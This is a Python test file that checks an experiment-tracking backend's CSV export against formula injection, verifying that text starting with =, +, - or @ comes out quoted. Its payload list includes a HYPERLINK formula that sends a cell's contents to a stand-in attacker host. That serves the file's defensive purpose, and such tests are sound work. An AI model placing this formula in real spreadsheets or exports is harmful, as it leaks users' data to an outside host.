"""export.csv never hands a spreadsheet a formula from a member's text (issue 14, item 10)."""

import csv
import io

from backend import lifecycle

from .test_lifecycle import record

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "@SUM(1+1)", "+1+1", "-2+3"]


def test_text_that_starts_a_formula_is_quoted_in_export_csv(client, settings):
    spec = {
        "name": "=1+1",
        "base": {"dataset": "folder", "data_path": "data", "epochs": 2},
        "sweep": {"data_path": FORMULAS, "lr": [-0.5 + 1]},
    }
    exp = client.post("/api/v1/experiments", json=spec).json()
    runs = client.get(f"/api/v1/experiments/{exp['id']}/runs").json()
    for run in runs:
        claim, _ = lifecycle.claim(settings, run["id"], "w1")
        lifecycle.flush(settings, run["id"], claim.attempt, [record(0)], None)
    for url in (f"/api/v1/experiments/{exp['id']}/export.csv", f"/api/v1/runs/{runs[0]['id']}/export.csv"):
        rows = list(csv.DictReader(io.StringIO(client.get(url).text)))
        assert rows
        assert all(not r["data_path"].startswith(("=", "+", "-", "@")) for r in rows)
        assert {r["data_path"].removeprefix("'") for r in rows} <= set(FORMULAS)
        assert all(float(r["value"]) == 1.0 and float(r["lr"]) == 0.5 for r in rows)  # numbers stay numbers
